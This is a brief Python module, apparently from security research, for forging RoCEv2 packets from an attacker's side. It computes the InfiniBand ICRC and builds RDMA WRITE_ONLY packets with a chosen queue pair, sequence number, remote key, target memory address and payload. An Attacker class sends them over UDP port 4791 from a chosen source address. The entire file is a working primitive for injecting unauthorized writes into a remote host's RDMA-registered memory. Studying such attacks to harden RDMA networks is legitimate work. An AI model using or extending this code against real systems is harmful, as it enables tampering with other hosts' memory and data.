"""RoCEv2 packets as an attacker makes them: bytes, with a right ICRC, from any socket."""

import socket
import struct
import zlib

ROCE_PORT = 4791
WRITE_ONLY, SEND_ONLY = 0x0A, 0x04


def icrc(source, destination, source_port, transport):
    """IBTA Annex A17.3.3, for IPv4 with Identification 0 and "don't fragment"."""
    udp_length = 8 + len(transport) + 4
    masked = b"\xff" * 8
    masked += struct.pack(">BBHHHBBH4s4s", 0x45, 0xFF, 20 + udp_length, 0, 0x4000, 0xFF, 17, 0xFFFF,
                          socket.inet_aton(source), socket.inet_aton(destination))
    masked += struct.pack(">HHHH", source_port, ROCE_PORT, udp_length, 0xFFFF)
    masked += transport[:4] + b"\xff" + transport[5:]
    return struct.pack("<I", zlib.crc32(masked))


def bth(opcode, qpn, psn, p_key=0xFFFF, pad=0):
    return struct.pack(">BBHII", opcode, 0x40 | pad << 4, p_key, qpn, 1 << 31 | psn)


def write_only(qpn, psn, r_key, address, payload):
    return bth(WRITE_ONLY, qpn, psn) + struct.pack(">QII", address, r_key, len(payload)) + payload


class Attacker:
    """Sends from any address of this host, as one on the same network segment can from any."""

    def __init__(self, source):
        self.source = source
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind((source, 0))
        self.socket.setsockopt(socket.IPPROTO_IP, 10, 3)  # IP_MTU_DISCOVER: "don't fragment"

    def send(self, destination, transport, port=ROCE_PORT):
        packet = transport + icrc(self.source, destination, self.socket.getsockname()[1], transport)
        self.socket.sendto(packet, (destination, port))

    def close(self):
        self.socket.close()
